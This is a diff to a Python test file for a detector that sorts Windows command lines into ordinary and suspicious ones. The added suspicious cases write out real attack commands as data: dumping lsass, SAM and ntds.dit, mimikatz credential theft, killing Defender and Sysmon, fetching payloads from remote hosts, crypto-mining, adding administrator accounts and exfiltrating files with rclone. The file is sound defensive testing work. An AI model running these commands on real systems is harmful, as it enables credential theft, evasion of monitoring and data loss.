@@ -43,6 +43,33 @@ ORDINARY = [
     r'regsvr32 /s "C:\Windows\System32\scrobj.dll"',
     "wbadmin delete backup -keepVersions:3",
     "certutil -decode a.b64 a.cer",
+    r"C:\Program Files\Microsoft Visual Studio\2022\MSBuild.exe C:\Users\b\source\repos\App\App.sln /m",
+    r'MSBuild.exe "C:\Users\b\AppData\Local\Temp\NuGetScratch\x.nugetinputs.targets" /t:Restore',
+    r"InstallUtil.exe C:\Users\b\source\repos\Svc\bin\Debug\Svc.exe",
+    r"cmstp.exe /s C:\Users\b\AppData\Local\Temp\IXP000.TMP\corp.inf",
+    r'forfiles /p D:\logs /s /m *.log /d -30 /c "cmd /c del @path"',
+    r'wscript.exe //B "C:\Program Files\Vendor\start.vbs"',
+    r"wscript.exe \\corp.example\netlogon\logon.vbs",
+    r"mshta.exe C:\Tools\admin.hta",
+    r"msiexec /i agent.msi /qn SERVER_URL=https://agents.example.com",
+    r"msiexec.exe /i \\fs\software\app.msi /qn",
+    r"rundll32.exe C:\ProgramData\Vendor\x.dll,Main",
+    r'regsvr32 /s "C:\Users\b\AppData\Roaming\Vendor\bin\addin.dll"',
+    r"rundll32 printui.dll,PrintUIEntry /in /n \\printers\floor2",
+    r"curl.exe -L https://aka.ms/vs/17/release/vc_redist.x64.exe -o C:\Users\b\Downloads\vc_redist.exe",
+    r"powershell Invoke-WebRequest https://dl.example.com/setup.exe -OutFile setup.exe",
+    r"bitsadmin /list /allusers",
+    r"curl http://192.168.1.10/firmware.exe -O",
+    r"fltmc instances",
+    r"taskkill /f /im notepad.exe",
+    r"bcdedit /set {current} safebootalternateshell no",
+    r"cipher /e C:\Users\b\Private",
+    r"rclone copy C:\Users\b\Documents backup:docs",
+    r'netsh advfirewall firewall add rule name="App" dir=in program="C:\Program Files\App\a.exe" action=allow',
+    r'netsh advfirewall firewall add rule name="Talk" program="C:\Users\b\AppData\Local\Talk\app-1\talk.exe"',
+    r"net user b",
+    r"net stop spooler",
+    r"esentutl /k C:\Users\b\AppData\Local\x.dat",
     "",
 ]
 TELLING = {
@@ -86,6 +113,35 @@ TELLING = {
     "net user hack P@ss /add": "account-made",
     "powershell -w h -nop -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=": "hidden-script",
     r'rundll32.exe "C:\Documents and Settings\a\Local Settings\Application Data\v\x.dll",Run': "library-from-user-folder",
+    r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\x.dit": "password-hives",
+    r"esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\s": "password-hives",
+    r"mshta.exe C:\Users\b\Downloads\x.hta": "loose-file-run",
+    r"MSBuild.exe C:\Users\Public\x.xml": "loose-file-run",
+    r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\x.dll": "loose-file-run",
+    r'"C:\Windows\System32\WScript.exe" "C:\Users\b\AppData\Local\Temp\Temp1_inv.zip\inv 4.js"': "loose-file-run",
+    r"cmstp.exe /ni /s C:\Users\Public\x.inf": "loose-file-run",
+    r"forfiles /p c:\windows\system32 /m notepad.exe /c C:\Users\Public\x.exe": "loose-file-run",
+    r"rundll32 C:\ProgramData\x.dll,Start": "loose-file-run",
+    r"regsvr32.exe -s C:\Users\b\AppData\Roaming\x.ocx": "loose-file-run",
+    r'rundll32.exe "C:\Users\b\AppData\Local\Temp\Vd\pic.jpg",DrawThemeIcon': "loose-file-run",
+    r"rundll32 \\198.51.100.7\dav\x.dll,Start": "share-file-run",
+    r"wscript.exe //B \\files.example.net@SSL\DavWWWRoot\x.vbs": "share-file-run",
+    r"msiexec /q /i http://198.51.100.7/x.msi": "remote-installer",
+    r"bitsadmin /SetNotifyCmdLine j C:\x.exe NULL": "transfer-job",
+    r"powershell Start-BitsTransfer -Source http://198.51.100.7/a.exe -Destination C:\a.exe": "program-fetched",
+    r"curl https://dl.example.com/a.exe -o C:\Users\Public\a.exe": "program-fetched",
+    'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit': "password-tool",
+    "taskkill /f /im MsMpEng.exe": "protection-ended",
+    "fltMC.exe unload SysmonDrv": "protection-ended",
+    "fltmc unload somefilter": "filter-unloaded",
+    "bcdedit /set {current} safeboot network": "start-weakened",
+    "bcdedit.exe -set TESTSIGNING ON": "start-weakened",
+    "cipher /w:C:": "free-space-wiped",
+    r'netsh firewall add allowedprogram "C:\Users\b\AppData\Local\Temp\s.exe" "s.exe" ENABLE': "firewall-opened",
+    "xmrig.exe -o stratum+tcp://pool.example.net:3333 -u x": "coins-mined",
+    r'rundll32.exe "C:\Users\b\AppData\Local\Temp\MSI12AB.tmp",zzzzInvokeManaged SfxCA': "library-from-user-folder",
+    "net user Guest /active:yes": "account-made",
+    "powershell Add-LocalGroupMember -Group Administrators -Member x": "account-made",
 }
 
 
@@ -117,6 +173,12 @@ def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
         " ",
         "-e ",
         "powershell iex download^",
+        "copy --transfers ",
+        "wscript \\temp\\",
+        "taskkill /im ",
+        "forfiles /c :\\temp\\",
+        "rundll32 c:\\users\\a",
+        "rundll32 -s -s -s ",
     ],
 )
 def test_a_hostile_command_line_is_read_in_time(words: str) -> None:
@@ -140,3 +202,47 @@ def test_a_process_name_that_is_a_sentence_is_quoted_in_what_is_told_of_it() -> 
     assert told["title"].startswith(f"{shown} was started")
     assert found.subjects["processes"] == [shown]
     assert "clean" not in " ".join(told.values())
+
+
+def started(*lines: str, lsass: int | None = 744) -> list[tuple[str, str]]:
+    """What is found of processes with these command lines: (id, severity)."""
+    rows = [Row("Process Start", who=f"tool.exe ({1000 + at})") for at in range(len(lines))]
+    people = {f"tool.exe ({1000 + at})": {p.COMMAND_LINE: line} for at, line in enumerate(lines)}
+    if lsass:
+        people[f"lsass.exe ({lsass})"] = {p.COMMAND_LINE: "lsass.exe"}
+    built = capture(*rows, processes=people)
+    earlier = {"process_tree": process_tree.analyse(built, {})}
+    return [(one.facts["id"], one.severity) for one in command_lines.analyse(built, earlier).findings]
+
+
+@pytest.mark.parametrize(
+    ("line", "lsass", "found"),
+    [
+        (r"procdump64.exe -accepteula -ma 744 C:\o.dmp", 744, [("password-memory", "high")]),
+        (r"C:\Tools\SqlDumper.exe 744 0 0x01100", 744, [("password-memory", "high")]),
+        (r"procdump64.exe -ma 745 C:\o.dmp", 744, []),
+        (r"procdump64.exe -ma 744 C:\o.dmp", None, []),
+        (r"procdump64.exe -ma 9000 C:\744.dmp", 744, []),
+        ("ping -n 744 localhost", 744, []),
+    ],
+)
+def test_the_memory_of_lsass_may_be_asked_for_by_its_number(
+    line: str, lsass: int | None, found: list[tuple[str, str]]
+) -> None:
+    assert started(line, lsass=lsass) == found
+
+
+def test_ten_different_services_stopped_are_told_and_one_product_s_are_not() -> None:
+    names = "MSSQLSERVER SQLAgent Veeam Exchange vss mysql oracle acronis sage qb".split()
+    assert started(*(f'net stop "{name}" /y' for name in names)) == [("services-stopped", "medium")]
+    assert started(*(f'net stop "{name}" /y' for name in names[:9])) == []
+    assert started(*["net stop spooler"] * 30) == []
+
+
+def test_a_tool_that_sends_files_away_is_told_by_where_it_lies() -> None:
+    line = r"rclone copy C:\Users\b\Documents mega:x"
+    assert telling(line) is None
+    assert telling(line, r"C:\Program Files\rclone\rclone.exe") is None
+    known = telling(line, r"C:\Users\Public\rclone.exe")
+    assert known is not None
+    assert known["id"] == "files-sent-from-loose-tool"
